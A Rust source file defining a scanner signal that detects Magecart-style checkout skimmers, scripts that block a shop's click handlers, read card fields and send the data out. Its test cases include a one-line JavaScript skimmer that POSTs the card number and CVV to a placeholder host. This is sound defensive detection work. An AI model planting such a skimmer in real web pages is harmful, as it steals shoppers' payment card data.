//! `checkout-clicks-intercepted`.

use crate::facts::Atom;
use crate::signals::{Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "checkout-clicks-intercepted",
    description: "The script stops the shop's own event handlers, reads card fields and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MAGECART,
    needs: &[
        one(&[Atom::EventStopped]),
        several(2, &[Atom::CardField]),
        one(&[Atom::FieldValue, Atom::FormContents]),
        one(&[
            Atom::AddressFromData,
            Atom::Beacon,
            Atom::Request,
            Atom::Post,
            Atom::Socket,
            Atom::FormTarget,
        ]),
    ],
    within: 1500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "b.addEventListener('click',function(e){e.stopImmediatePropagation();var d=document.getElementById('cc_number').value+document.getElementById('cvv').value;fetch('https://c.example',{method:'POST',body:d})},true)",
        ],
        without: &["b.addEventListener('click',function(e){e.stopImmediatePropagation();toggle()},true)"],
    },
};
